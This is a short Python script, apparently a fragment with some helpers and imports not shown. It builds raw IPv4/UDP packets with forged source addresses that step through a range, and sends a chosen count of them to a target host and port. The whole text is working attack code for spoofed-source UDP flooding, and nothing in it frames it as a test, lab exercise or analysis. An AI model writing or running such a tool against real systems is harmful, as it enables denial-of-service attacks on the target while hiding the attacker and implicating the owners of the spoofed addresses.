# Datagrams from senders that are not ours. Arguments: the address they go to, how many, how many bytes each has, the
# first sender and how far the next is from it.
to, count, size, first, step = sys.argv[1:]
host, port = name_of(to)[1]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
(source,) = struct.unpack("!I", socket.inet_aton(first))
destination = socket.inet_aton(host)
# RFC 768: without a checksum.
udp = struct.pack("!HHHH", 40000, port, 8 + int(size), 0) + bytes(int(size))
for number in range(int(count)):
    forged = struct.pack("!I", source + number * int(step))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, forged, destination)
    raw.sendto(ip + udp, (host, 0))
say("sent")
